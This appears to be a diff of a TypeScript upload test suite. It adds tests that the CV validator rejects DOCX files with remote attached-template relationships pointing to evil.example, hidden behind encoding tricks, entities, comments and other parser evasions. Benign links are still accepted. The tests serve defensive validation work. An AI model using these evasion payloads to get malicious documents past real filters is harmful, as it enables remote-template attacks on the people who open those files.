@@ -68,6 +68,72 @@ const relationsOf = (...kinds: string[]) =>
   `<Relationships>${kinds.map((kind) => `<Relationship Id="x" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="https://evil.example/x" TargetMode="External"/>`).join('')}</Relationships>`
 const docxWith = (...kinds: string[]) =>
   docx('cv.docx', { name: 'word/_rels/settings.xml.rels', content: relationsOf(...kinds) })
+const type = (kind: string) => `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}"`
+const docxOfRelation = (attributes: string, head = '') =>
+  docx('cv.docx', {
+    name: 'word/_rels/settings.xml.rels',
+    content: `${head}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="x" ${attributes}/></Relationships>`,
+  })
+const remote = 'Target="https://evil.example/x" TargetMode="External"'
+const hiddenTemplates: readonly (readonly [how: string, file: () => File])[] = [
+  [
+    'an entity in its mode',
+    () => docxOfRelation(`${type('attachedTemplate')} Target="https://evil.example/x" TargetMode="&#69;xternal"`),
+  ],
+  [
+    'an entity in its type',
+    () =>
+      docxOfRelation(
+        `Type="&#104;ttp://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" ${remote}`,
+      ),
+  ],
+  [
+    'a > before its mode',
+    () => docxOfRelation(`${type('attachedTemplate')} Target="https://evil.example/x?>" TargetMode="External"`),
+  ],
+  [
+    'a type in its address',
+    () =>
+      docxOfRelation(
+        `${type('attachedTemplate')} Target="https://evil.example/x?a Type='/image'" TargetMode="External"`,
+      ),
+  ],
+  ['a type that ends like a picture', () => docxOfRelation(`Type="https://evil.example/image" ${remote}`)],
+  [
+    'a document type with entities',
+    () => docxOfRelation(`${type('hyperlink')} ${remote}`, '<!DOCTYPE x [<!ENTITY a "External">]>'),
+  ],
+  [
+    'another encoding',
+    () => docxOfRelation(`${type('hyperlink')} ${remote}`, '<?xml version="1.0" encoding="utf-7"?>'),
+  ],
+  [
+    'UTF-16 without a mark',
+    () =>
+      docx('cv.docx', {
+        name: 'word/_rels/settings.xml.rels',
+        content: Buffer.from(relationsOf('attachedTemplate'), 'utf16le'),
+      }),
+  ],
+  ['a mode that is given twice', () => docxOfRelation(`${type('attachedTemplate')} ${remote} TargetMode="Internal"`)],
+  [
+    'an element with a colon',
+    () =>
+      docx('cv.docx', {
+        name: 'word/_rels/settings.xml.rels',
+        content: relationsOf('attachedTemplate').replaceAll('Relationship', 'r:Relationship'),
+      }),
+  ],
+  [
+    'a comment before it',
+    () =>
+      docx('cv.docx', {
+        name: 'word/_rels/settings.xml.rels',
+        content: relationsOf('attachedTemplate').replace('<Relationship ', '<!-- > --><Relationship '),
+      }),
+  ],
+]
+const ordinary = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n`
 const docxInUtf16 = (kind: string) =>
   docx('cv.docx', {
     name: 'word/_rels/settings.xml.rels',
@@ -145,6 +211,20 @@ describe('file uploads', () => {
       expect([await storedFiles(), await stateOf(as.uuid)], 'nothing is stored').toEqual(before)
     },
   )
+
+  test.each(hiddenTemplates)('refuse a docx with a remote template behind %s', async (_, file) => {
+    const message = [{ field: 'CV', message: withRemoteTemplate }]
+    expect(await changeCv(file())).toMatchObject({ status: 400, result: { message } })
+  })
+
+  test.each([
+    ['a link', `${type('hyperlink')} Target="https://example.com/?a=1&amp;b=>2" TargetMode="External"`, ordinary],
+    ['a part of its own', `${type('theme')} Target="theme/theme1.xml"`, `\uFEFF${ordinary}`],
+    ['an end of many spaces', `${type('theme')} Target="theme1.xml"${' '.repeat(500_000)}`, ordinary],
+    ['a long comment', `${type('theme')} Target="theme1.xml"`, `<!--${'-> '.repeat(200_000)}-->`],
+  ])('accept a docx with %s', async (_, relation, head) => {
+    expect((await changeCv(docxOfRelation(relation, head))).status).toBe(200)
+  })
 
   // In addition to the 28.
   test.each([
